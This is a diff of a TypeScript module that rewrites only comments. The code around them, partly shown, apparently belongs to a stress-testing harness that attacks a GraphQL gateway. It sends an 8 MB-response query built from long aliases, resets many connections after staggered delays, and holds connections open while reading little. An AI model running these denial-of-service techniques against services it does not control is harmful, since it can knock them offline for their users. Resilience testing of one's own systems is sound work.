@@ -1,4 +1,4 @@
-/** Attacks on the places of running requests: taking them and going, and taking them and staying. */
+/** Attacks on the places of running requests. A client takes a place and disconnects, or takes a place and keeps it. */
 import { connect } from 'node:net';
 import { setTimeout as delay } from 'node:timers/promises';
 import { gzipSync } from 'node:zlib';
@@ -7,7 +7,7 @@ import type { PersonName } from './surroundings.ts';
 
 const AT_ONCE = 20;
 
-/** An answer of 8 MB: the names of 28 aliases, 570 letters each, in each of 500 rows. */
+/** A request whose answer has 8 MB: 500 rows with 28 aliases each, whose names have 570 letters. */
 export const largeAnswer: GraphQLRequest = {
   query: `{objects(first:500){nodes{${Array.from({ length: 28 }, (_, i) => `${'a'.repeat(570)}${i}:kind`).join(' ')}}}}`,
 };
@@ -26,7 +26,8 @@ export const places: readonly Attack[] = [
       ]);
       const all = strike.many(1_600);
       for (let sent = 0; sent < all && !strike.isOver; sent += AT_ONCE) {
-        // The time of inflating varies with the load of the gateway, and so does the moment that hurts.
+        // The time of decompression varies with the gateway's load, so the attack resets connections after several
+        // delays.
         const unit = 1 + ((sent / AT_ONCE) % 5);
         await Promise.all(Array.from({ length: AT_ONCE }, (_, i) => sendAndReset(strike, request, (i % 6) * unit)));
       }
@@ -73,7 +74,7 @@ async function sendAndReset(strike: Strike, request: Buffer, afterMs: number): P
   strike.count('reset');
 }
 
-/** Never reads more than a little. */
+/** Sends the request and reads only a small part of the answer. */
 export async function sendAndStay(strike: Strike, request: Buffer) {
   const socket = await connected(strike);
   socket.pause();
@@ -85,7 +86,7 @@ export async function sendAndStay(strike: Strike, request: Buffer) {
 async function connected({ target }: Strike) {
   const { hostname, port } = new URL(target.url);
   const socket = connect({ host: hostname, port: Number(port) });
-  // A gateway that hangs up is an answer, too.
+  // A closed connection also counts as an answer.
   socket.on('error', () => socket.destroy());
   await new Promise<void>(resolve => socket.once('connect', resolve).once('close', () => resolve()));
   return socket;
